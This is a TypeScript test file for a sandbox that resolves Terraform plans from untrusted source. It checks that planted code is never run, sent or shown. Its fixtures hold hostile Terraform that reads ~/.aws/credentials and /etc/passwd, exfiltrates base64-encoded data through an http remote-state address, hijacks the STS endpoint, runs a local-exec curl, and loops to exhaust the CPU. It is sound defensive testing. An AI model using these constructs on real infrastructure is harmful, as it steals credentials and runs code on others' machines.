import { describe, expect, it } from 'vitest';
import { openSource } from '../source/open-source.js';
import { resolveFromSource } from '../source/resolve-from-source.js';
import { MIRROR, readCasePlan, whyNoTerraform } from '../source/terraform.fixture.js';
import { CASE, judge, leftBehind, plant, startGate, useSetting } from './hostile-source.fixture.js';

const setting = useSetting();

const until = async (holds: () => boolean): Promise<void> => {
  while (!holds()) await new Promise((resolve) => setTimeout(resolve, 50));
};

const why = whyNoTerraform();

/** What a local of the plan hides of its web ACL, once the source has told it, and without. */
const DECIDED = /^ {2}edge\/waf-attached: 1 of 1 resource/m;
const UNDECIDED = /^UNKNOWN {2}edge\/waf-attached/m;

describe.skipIf(why !== undefined)('with a real terraform', { timeout: 240_000 }, () => {
  it('resolves, and neither runs, sends nor shows what the source has planted', async () => {
    const folder = await plant(setting, {
      'zz.tf': `
        locals {
          stolen  = file("\${path.module}/planted.txt")
          outside = try(file("${setting.outside}"), file("~/.aws/credentials"), file("/etc/passwd"), "nothing")
        }
        variable "stolen" { default = "" }
        data "terraform_remote_state" "leak" {
          backend = "http"
          config  = { address = "${setting.url}/\${base64encode(local.stolen)}" }
        }
        output "stolen" {
          value = [local.stolen, local.outside, var.stolen, data.terraform_remote_state.leak.outputs]
          precondition {
            condition     = local.stolen == ""
            error_message = local.stolen
          }
        }
        check "loud" {
          assert {
            condition     = false
            error_message = local.stolen
          }
        }
        terraform {
          backend "http" {
            address = "${setting.url}/state"
          }
        }`,
      'zz_override.tf': `
        provider "aws" {
          region     = "us-east-1"
          access_key = file("planted.txt")
          endpoints {
            sts = "${setting.url}"
          }
        }
        resource "aws_lb" "main" {
          provisioner "local-exec" {
            command = "touch ${setting.marker}; curl ${setting.url}"
          }
          lifecycle {
            postcondition {
              condition     = false
              error_message = local.stolen
            }
          }
        }`,
      'zz.tftest.hcl': 'run "x" {\n  command = apply\n}\n',
      'terraform.tfvars': 'stolen = "from the values"\n',
    });
    const { output } = await judge(setting, folder);
    expect(output).toMatch(/Source: \d+ open arguments resolved by terraform/);
    expect(output).toMatch(DECIDED);
  });

  it('takes no other address, tag or user data than the plan has', async () => {
    const folder = await plant(setting, {
      'zz.tf':
        'resource "terraform_data" "x" {\n  for_each = toset([file("planted.txt"), "x"])\n}\n',
      'zz_override.tf': 'resource "aws_lb" "main" {\n  tags = { x = file("planted.txt") }\n}\n',
    });
    const { output } = await judge(setting, folder);
    expect(output).toContain('[source/mismatch]');
    expect(output).toContain('it plans 2 more resources');
    expect(output).toMatch(UNDECIDED);
  });

  it('names the place of what fails, and nothing of what terraform says about it', async () => {
    const folder = await plant(setting, {
      'zz.tf':
        '\nlocals {\n  x = tonumber(file("planted.txt"))\n}\noutput "x" {\n  value = local.x\n}\n',
    });
    const { output } = await judge(setting, folder);
    expect(output).toContain(
      '[source/plan-failed] The source resolves nothing: its mocked plan failed at zz.tf:3',
    );
    expect(output).toMatch(UNDECIDED);
  });

  it('leaves nothing when it is interrupted, nor when it is killed', async () => {
    const folder = await plant(setting, { 'zz.tf': LOOP });
    for (const [signal, code] of [
      ['SIGINT', 130],
      ['SIGKILL', null],
    ] as const) {
      const gate = startGate(setting, folder);
      await until(() => leftBehind(setting).length > 1);
      process.kill(gate.pid, signal);
      expect((await gate.ended).code).toBe(code);
      // The watchdog of a killed run clears away by itself.
      await until(() => leftBehind(setting).length === 0);
    }
  });

  it('ends a plan that takes too long', async () => {
    const folder = await plant(setting, { 'zz.tf': LOOP });
    const result = await resolveHere(folder, { timeoutMs: 6000 });
    expect(result).toMatchObject({ state: 'unresolved', code: 'source/timeout' });
  });

  it('without namespaces: mocks what would send, and refuses what reads any file', async () => {
    const leak = `data "terraform_remote_state" "x" {\n  backend = "http"\n  config = { address = "${setting.url}" }\n}\n`;
    const sent = await resolveHere(await plant(setting, { 'zz.tf': leak }), { plain: true });
    expect(sent).toMatchObject({ state: 'resolved', isolated: false });
    expect(setting.requests).toEqual([]);
    for (const call of [
      `file("${setting.outside}")`,
      'file("../outside.txt")',
      'file(join("", ["/etc/", "passwd"]))',
      'templatestring("x", {})',
      'templatefile("planted.tftpl", {})',
      'fileset("/", "*")',
      'core::file("/etc/passwd")',
    ]) {
      const files = {
        'zz.tf': `output "x" {\n  value = ${call}\n}\n`,
        'planted.tftpl': '${file ("/etc/passwd")}',
      };
      const result = await resolveHere(await plant(setting, files), { plain: true });
      expect(result, call).toMatchObject({ state: 'unresolved', code: 'source/reads-files' });
    }
  });
});

const LOOP = `locals {
  x = [for a in range(1000) : [for b in range(1000) : [for c in range(1000) : sha256("\${a}\${b}\${c}")]]]
}
output "x" {
  value = length(local.x)
}
`;

function resolveHere(folder: string, options: { plain?: boolean; timeoutMs?: number }) {
  const source = openSource({ directory: folder, sourceRoot: folder });
  const signal = new AbortController().signal;
  return resolveFromSource(readCasePlan(CASE), source, { mirror: MIRROR, signal, ...options });
}
